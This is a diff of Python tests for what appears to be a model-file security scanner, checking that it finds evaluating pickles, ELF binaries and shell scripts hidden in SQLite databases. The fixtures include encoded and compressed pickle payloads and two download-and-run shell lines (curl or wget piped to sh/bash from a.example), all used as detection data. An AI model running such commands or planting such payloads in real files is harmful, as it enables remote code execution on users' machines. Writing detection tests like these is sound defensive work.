@@ -1,10 +1,17 @@
 from __future__ import annotations
 
+import base64
+import gzip
+import io
 import pickle
 import sqlite3
 import struct
+import zipfile
 import zlib
 from contextlib import closing, suppress
+from functools import cache
+from pathlib import Path
+from tempfile import TemporaryDirectory
 
 import pytest
 from builders.executable_files import build_elf_library
@@ -246,3 +253,145 @@ def test_sqlite_database_of_texts_and_bytes_without_a_pickle_has_nothing_embedde
     reading = read_bytes((tmp_path / "index.db").read_bytes(), "index.db")
     assert list(reading.formats) == ["index.db"]
     assert reading.unread == []
+
+
+def build_database(folder: Path, value: str | bytes, *statements: str, page_size: int = 4096) -> bytes:
+    """Return a database with a table of 30 short texts and ``value``, on which further statements were executed."""
+    path = folder / "made.db"
+    path.unlink(missing_ok=True)
+    with closing(sqlite3.connect(path)) as database:
+        # What is deleted stays in the file.
+        database.executescript(f"PRAGMA page_size = {page_size}; PRAGMA secure_delete = OFF; CREATE TABLE t (a, b)")
+        database.executemany("INSERT INTO t VALUES (?, ?)", [(n, f"text {n}") for n in range(30)])
+        database.execute("INSERT INTO t VALUES (100, ?)", (value,))
+        for statement in statements:
+            database.execute(statement)
+        database.commit()
+    return path.read_bytes()
+
+
+def build_zip_of_a_pickle(padding: bytes) -> bytes:
+    """Return an archive with ``padding`` as its first member, and a pickle that evaluates a text."""
+    stored = io.BytesIO()
+    with zipfile.ZipFile(stored, "w") as archive:
+        archive.writestr("padding", padding)
+        archive.writestr("data.pkl", EVAL_ONE)
+    return stored.getvalue()
+
+
+NOISE = bytes(zlib.crc32(bytes((n % 256, n // 256))) & 0xFF for n in range(9000))
+LONG_PICKLE = pickle.dumps(NOISE)[:-1] + b"0" + EVAL_ONE[2:]
+EVALUATING_VALUES = {
+    "gzip": gzip.compress(EVAL_ONE),
+    "zlib with a small window": (lambda packer: packer.compress(EVAL_ONE) + packer.flush())(zlib.compressobj(9, 8, 9)),
+    "zip": build_zip_of_a_pickle(b""),
+    "Base64": base64.b64encode(EVAL_ONE + bytes(20)).decode(),
+    "hexadecimal digits": (EVAL_ONE + bytes(20)).hex(),
+}
+LONG_VALUES = {
+    "pickle": LONG_PICKLE,
+    "pickle behind other bytes": NOISE[:100] + LONG_PICKLE,
+    "zip": build_zip_of_a_pickle(NOISE),
+    "gzip": gzip.compress(LONG_PICKLE),
+    "Base64": base64.b64encode(LONG_PICKLE).decode(),
+}
+
+
+@check_each("name", EVALUATING_VALUES)
+def test_content_of_a_short_value_of_an_sqlite_database_is_read(name, tmp_path, read_bytes):
+    assert read_bytes(build_database(tmp_path, EVALUATING_VALUES[name]), "cache.db").evaluates
+
+
+@pytest.mark.parametrize("page_size", [512, 4096, 65536])
+@check_each("name", LONG_VALUES)
+def test_value_of_an_sqlite_database_is_read_across_its_overflow_pages(name, page_size, tmp_path, read_bytes):
+    value = LONG_VALUES[name] if page_size < 65536 or name != "zip" else build_zip_of_a_pickle(NOISE * 9)
+    assert read_bytes(build_database(tmp_path, value, page_size=page_size), "cache.db").evaluates
+
+
+@check_each("name", LONG_VALUES)
+def test_value_in_an_index_of_an_sqlite_database_is_read(name, tmp_path, read_bytes):
+    create = "CREATE TABLE u (a, b, PRIMARY KEY (b, a)) WITHOUT ROWID"
+    data = build_database(tmp_path, LONG_VALUES[name], create, "INSERT INTO u SELECT * FROM t", "DROP TABLE t")
+    assert read_bytes(data, "cache.db").evaluates
+
+
+@check_each("name", ["gzip", "zip"])
+def test_value_of_a_table_that_was_deleted_from_an_sqlite_database_is_read(name, tmp_path, read_bytes):
+    assert read_bytes(build_database(tmp_path, EVALUATING_VALUES[name], "DROP TABLE t"), "cache.db").evaluates
+
+
+@pytest.mark.parametrize("value", [build_elf_library(), build_elf_library() + bytes(9000)])
+def test_program_in_a_value_of_an_sqlite_database_is_reported(value, tmp_path):
+    (tmp_path / "model").mkdir()
+    (tmp_path / "model" / "index.db").write_bytes(build_database(tmp_path, value))
+    report = modelaudit.scan(tmp_path / "model", second_opinion=False)
+    assert "format/executable" in {finding.rule for finding in report.findings}
+    assert report.exit_code == 1
+
+
+@pytest.mark.parametrize(
+    "value", ["#!/bin/sh\ncurl http://a.example/x | sh\n", b"#!/usr/bin/env bash\nwget -O- a.example/x | bash\n"]
+)
+def test_shell_script_in_a_value_of_an_sqlite_database_is_judged(value, tmp_path):
+    (tmp_path / "model").mkdir()
+    (tmp_path / "model" / "index.db").write_bytes(build_database(tmp_path, value))
+    report = modelaudit.scan(tmp_path / "model", second_opinion=False)
+    assert "shell/download-and-run" in {finding.rule for finding in report.findings}
+
+
+def test_sqlite_database_of_documents_and_long_vectors_has_nothing_embedded(tmp_path, read_bytes):
+    source = "#!/usr/bin/env python3\nimport subprocess\nsubprocess.run(['ls'])\n" * 300
+    documents = [
+        source,
+        '{"id": "' + "a1" * 40 + '"}',
+        "https://a.example/" + "x" * 60,
+        NOISE,
+        gzip.compress(source.encode()),
+    ]
+    with closing(sqlite3.connect(tmp_path / "index.db")) as database:
+        database.execute("CREATE VIRTUAL TABLE words USING fts5(text)")
+        database.execute("CREATE TABLE documents (text, vector BLOB)")
+        for document in documents:
+            database.execute("INSERT INTO documents VALUES (?, ?)", (document, struct.pack("<1536f", *range(1536))))
+            database.execute("INSERT INTO words VALUES (?)", (source,))
+        database.execute("DELETE FROM documents WHERE rowid = 1")
+        database.commit()
+    reading = read_bytes((tmp_path / "index.db").read_bytes(), "index.db")
+    assert list(reading.formats) == ["index.db"]
+    assert reading.unread == []
+
+
+def test_chains_of_overflow_pages_that_meet_end_at_a_bound(tmp_path, read_bytes):
+    with closing(sqlite3.connect(tmp_path / "loop.db")) as database:
+        database.executescript("PRAGMA page_size = 512; CREATE TABLE t (a)")
+        database.executemany("INSERT INTO t VALUES (?)", [(bytes(20_000),) for _ in range(20)])
+        database.commit()
+    data = bytearray((tmp_path / "loop.db").read_bytes())
+    chained = [start for start in range(0, len(data), 512) if data[start] == 0]
+    for start in chained:  # each overflow page continues on the first one
+        data[start : start + 4] = (chained[0] // 512 + 1).to_bytes(4, "big")
+    # Each value is stated to have 4,000 more pages. Numbers of three bytes have seven bits in each.
+    for start in range(512, len(data), 512):
+        if data[start] == 0x0D:
+            position = start + int.from_bytes(data[start + 8 : start + 10], "big")
+            size = (data[position] & 127) << 14 | (data[position + 1] & 127) << 7 | data[position + 2]
+            size += 4_000 * (512 - 4)
+            data[position : position + 3] = bytes((size >> 14 | 128, size >> 7 & 127 | 128, size & 127))
+    assert any("overflow pages" in detail for detail in read_bytes(bytes(data), "loop.db").details)
+
+
+@cache
+def build_mutable_database() -> bytes:
+    """Return a database with values on one page and on several."""
+    with TemporaryDirectory() as folder:
+        return build_database(Path(folder), LONG_PICKLE, "CREATE INDEX i ON t (b)", page_size=512)
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.integers(100, 16_000), st.binary(min_size=1, max_size=64))
+def test_mutated_sqlite_database_never_crashes_the_reader(bytes_window, offset, patch):
+    seed = build_mutable_database()
+    mutated = seed[:offset] + patch + seed[offset + len(patch) :]
+    with suppress(DamagedError, WindowError):
+        list(find_reader("media").read(Artifact("x", len(mutated), lambda: None), bytes_window(mutated), Limits()))
